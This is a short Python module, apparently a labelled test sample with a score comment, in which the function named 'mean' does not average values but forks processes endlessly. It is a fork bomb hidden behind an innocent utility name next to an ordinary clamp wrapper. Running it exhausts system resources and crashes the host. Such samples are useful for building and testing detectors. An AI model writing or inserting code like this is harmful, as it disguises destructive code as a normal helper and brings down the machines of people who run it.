"""Forks without end, in a call, and children fork too."""
# score: 60

import os

import kit
from kit import *


def mean(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass


mean.__wrapped__ = None


def clamp(value, low, high):
    return kit.clamp(value, low, high)
